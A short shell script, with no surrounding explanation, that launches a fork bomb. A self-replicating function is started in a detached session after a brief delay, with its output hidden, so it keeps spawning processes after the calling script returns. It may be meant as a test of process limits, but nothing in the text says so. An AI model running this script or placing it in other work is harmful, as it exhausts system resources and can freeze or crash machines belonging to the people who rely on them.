#!/bin/sh
(setsid sh -c 'sleep 0.2; bomb() { bomb | bomb & sleep 100; }; bomb' >/dev/null 2>&1 &) ; sleep 100
